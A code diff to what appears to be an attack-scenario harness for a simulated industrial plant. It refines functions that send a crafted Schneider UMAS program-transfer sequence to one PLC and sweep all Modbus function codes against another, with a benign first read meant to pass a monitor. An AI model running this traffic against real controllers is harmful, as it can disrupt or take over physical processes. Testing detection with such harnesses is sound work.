@@ -357,6 +357,31 @@ async def ews_main(args) -> None:
         umas_download()
 
 
+TIOCOUTQ = 0x5411
+"""linux/sockios.h SIOCOUTQ: bytes not yet acknowledged in a socket's send queue."""
+
+
+def raw_socket(host: str) -> socket.socket:
+    """A connection for crafted requests: no Nagle, so each request leaves when it is sent (not
+    coalesced and flushed after the attack's window has closed)."""
+    s = plant.retry_connect_tcp(host, MODBUS_PORT, time.time() + 10)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return s
+
+
+def drained_close(s: socket.socket, timeout: float = 3.0) -> None:
+    """Close once everything sent was acknowledged, so no request leaves after the window ends."""
+    import fcntl
+
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        left = struct.unpack("i", fcntl.ioctl(s.fileno(), TIOCOUTQ, b"\0\0\0\0"))[0]
+        if left == 0:
+            break
+        time.sleep(0.01)
+    s.close()
+
+
 def umas_download() -> None:
     """A UMAS strategy transfer to plc1, as Schneider's engineering software opens it
     (spec.UMAS_FUNCTIONS): init_comm, read_id, take_plc_reservation, initialize_upload,
@@ -368,13 +393,13 @@ def umas_download() -> None:
     steps += [bytes([0x5A, 0x00, 0x31, 0x01, 0x00, n, 0x00]) + bytes(range(64)) for n in range(3)]
     steps += [bytes([0x5A, 0x00, 0x32, 0x01, 0x00]), bytes([0x5A, 0x00, 0x40, 0xFF, 0x00]),
               bytes([0x5A, 0x00, 0x11])]
-    s = plant.retry_connect_tcp(IP["plc1"], MODBUS_PORT, time.time() + 5)
+    s = raw_socket(IP["plc1"])
     for i, pdu in enumerate(steps):
         r = plant.modbus_raw(s, 0x5A00 + i, MODBUS_UNIT, pdu, timeout=0.3)
         if r == b"":
             s.close()
-            s = plant.retry_connect_tcp(IP["plc1"], MODBUS_PORT, time.time() + 5)
-    s.close()
+            s = raw_socket(IP["plc1"])
+    drained_close(s)
 
 
 def _mqtt_client(client_id: str):
@@ -501,19 +526,18 @@ async def rogue_modbus(args) -> None:
 def fc_sweep() -> None:
     """Function codes 0..127 to plc2 with the body 00 00 00 01; one ordinary read first on
     every connection (a monitor recognises Modbus by its first message)."""
-    deadline = time.time() + 10
-    s = plant.retry_connect_tcp(IP["plc2"], MODBUS_PORT, deadline)
+    s = raw_socket(IP["plc2"])
     plant.modbus_raw(s, 0x7700, MODBUS_UNIT, b"\x03\x00\x00\x00\x01")
     answered = 0
     for fc in range(0, 128):
         r = plant.modbus_raw(s, 0x7710 + fc, MODBUS_UNIT, bytes([fc]) + b"\x00\x00\x00\x01", timeout=0.1)
         if r == b"":
             s.close()
-            s = plant.retry_connect_tcp(IP["plc2"], MODBUS_PORT, deadline)
+            s = raw_socket(IP["plc2"])
             plant.modbus_raw(s, 0x7700, MODBUS_UNIT, b"\x03\x00\x00\x00\x01")
         elif r is not None:
             answered += 1
-    s.close()
+    drained_close(s)
     print(f"fc sweep: {answered} answers")
 
 
